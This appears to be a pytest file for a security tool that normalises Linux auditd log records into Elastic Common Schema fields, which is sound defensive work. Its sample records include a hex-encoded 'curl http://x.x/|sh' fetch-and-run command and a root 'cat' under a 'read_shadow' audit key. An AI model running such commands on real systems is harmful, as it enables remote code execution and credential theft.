"""auditd records -> ECS as Elastic's auditd integration shapes them, raw keys kept for Sigma."""

from typing import Any

from soc.normalize import NormalizeOptions, normalize
from tests.ecs_fields import ABSENT, assert_fields


def audit_event(line: str) -> dict[str, Any]:
    record = {"id": "a1", "received_at": "2026-11-28T03:00:00Z", "format": "auditd", "data": line}
    return normalize(record, NormalizeOptions())


def test_syscall_execve_names_process_users_outcome_and_key() -> None:
    event = audit_event(
        "type=SYSCALL msg=audit(1764298800.123:4512): arch=c000003e syscall=59 success=yes"
        " exit=0 a0=5581e0 a1=5581f0 a2=558200 a3=0 items=2 ppid=2210 pid=2231 auid=1001 uid=0"
        ' gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=7 comm="cat"'
        ' exe="/usr/bin/cat" key="read_shadow"'
    )
    assert_fields(
        event,
        {
            "@timestamp": "2025-11-28T03:00:00.123000Z",
            "event.module": "auditd",
            "event.dataset": "auditd.log",
            "event.action": "executed",
            "event.category": ["process"],
            "event.type": ["start"],
            "event.outcome": "success",
            "auditd.log.record_type": "SYSCALL",
            "auditd.log.sequence": 4512,
            "auditd.log.key": "read_shadow",
            "auditd.log.a0": "5581e0",  # syscall arguments are pointers, never decoded
            "process.pid": 2231,
            "process.parent.pid": 2210,
            "process.name": "cat",
            "process.executable": "/usr/bin/cat",
            "user.id": "0",
            "user.audit.id": "1001",
            "user.effective.id": "0",
            "host.architecture": "x86_64",
        },
    )


def test_execve_arguments_are_hex_decoded_into_process_args() -> None:
    event = audit_event(
        'type=EXECVE msg=audit(1764298800.123:4512): argc=4 a0="bash" a1="-c"'
        " a2=6375726C20687474703A2F2F782E782F7C7368 a3=2D78"
    )
    assert_fields(
        event,
        {
            "event.action": "executed",
            "auditd.log.type": "EXECVE",
            "auditd.log.a2": "curl http://x.x/|sh",
            "auditd.log.a3": "-x",
            "process.args": ["bash", "-c", "curl http://x.x/|sh", "-x"],
            "process.args_count": 4,
            "process.command_line": "bash -c curl http://x.x/|sh -x",
            "process.executable": "bash",
        },
    )


def test_proctitle_hex_with_nul_separators_becomes_the_command_line() -> None:
    event = audit_event(
        "type=PROCTITLE msg=audit(1764298800.123:4512):"
        " proctitle=2F62696E2F7368002D6300696420726F6F74"
    )
    assert_fields(
        event,
        {
            "auditd.log.proctitle": "/bin/sh -c id root",
            "process.title": "/bin/sh -c id root",
            "process.command_line": "/bin/sh -c id root",
            "event.action": "proctitle",
        },
    )


def test_user_login_failure_reads_the_quoted_message_part() -> None:
    event = audit_event(
        "type=USER_LOGIN msg=audit(1764298801.500:4600): pid=3100 uid=0 auid=4294967295"
        ' ses=4294967295 subj=unconfined msg=\'op=login acct="admin" exe="/usr/sbin/sshd"'
        " hostname=? addr=203.0.113.77 terminal=sshd res=failed'"
    )
    assert_fields(
        event,
        {
            "event.action": "logged-in",
            "event.category": ["authentication"],
            "event.outcome": "failure",
            "user.name": "admin",
            "user.id": "0",
            "user.audit": ABSENT,  # 4294967295 is "unset"
            "source.ip": "203.0.113.77",
            "process.executable": "/usr/sbin/sshd",
            "auditd.log.op": "login",
            "auditd.log.hostname": ABSENT,  # "?" is no value
        },
    )


def test_node_prefix_and_enriched_fields_are_read() -> None:
    event = audit_event(
        "node=db01 type=SYSCALL msg=audit(1764298800.000:9): arch=c000003e syscall=101"
        ' success=no exit=-1 pid=4 auid=1000 uid=1000 comm="gdb" exe="/usr/bin/gdb"'
        '\x1dARCH=x86_64 SYSCALL=ptrace AUID="bob" UID="bob"'
    )
    assert_fields(
        event,
        {
            "host.name": "db01",
            "auditd.log.node": "db01",
            "auditd.log.SYSCALL": "ptrace",
            "event.action": "traced-process",
            "event.outcome": "failure",
            "user.name": "bob",
            "user.audit.name": "bob",
        },
    )


def test_add_user_is_an_iam_creation() -> None:
    event = audit_event(
        "type=ADD_USER msg=audit(1764298800.000:77): pid=5 uid=0 auid=1000 ses=2"
        ' msg=\'op=add-user id=1002 exe="/usr/sbin/useradd" hostname=web01 addr=? terminal=pts/0'
        " res=success'"
    )
    assert_fields(
        event,
        {
            "event.action": "added-user-account",
            "event.category": ["iam"],
            "event.type": ["user", "creation"],
            "event.outcome": "success",
            "source.domain": "web01",
        },
    )


def test_line_without_an_audit_header_is_kept_and_flagged() -> None:
    event = audit_event("type=SYSCALL garbage")
    assert_fields(
        event,
        {
            "message": "type=SYSCALL garbage",
            "event.original": "type=SYSCALL garbage",
            "error.type": "auditd_unparsed",
            "event.dataset": "auditd.log",
        },
    )


def test_later_records_of_one_event_get_the_syscall_process_and_user() -> None:
    serial = "1764298900.000:5001"
    audit_event(
        f"type=SYSCALL msg=audit({serial}): arch=c000003e syscall=59 success=yes exit=0"
        ' ppid=10 pid=11 auid=1001 uid=0 euid=0 comm="wget" exe="/usr/bin/wget" key="net"'
    )
    execve = audit_event(f'type=EXECVE msg=audit({serial}): argc=2 a0="wget" a1="http://x/y"')
    assert_fields(
        execve,
        {
            "process.pid": 11,
            "process.parent.pid": 10,
            "process.executable": "wget",  # the record's own a0 wins over the SYSCALL's exe
            "process.command_line": "wget http://x/y",
            "user.id": "0",
            "user.audit.id": "1001",
        },
    )
    other_event = audit_event('type=EXECVE msg=audit(1764298900.000:5002): argc=1 a0="id"')
    assert_fields(other_event, {"process.pid": ABSENT, "user": ABSENT})
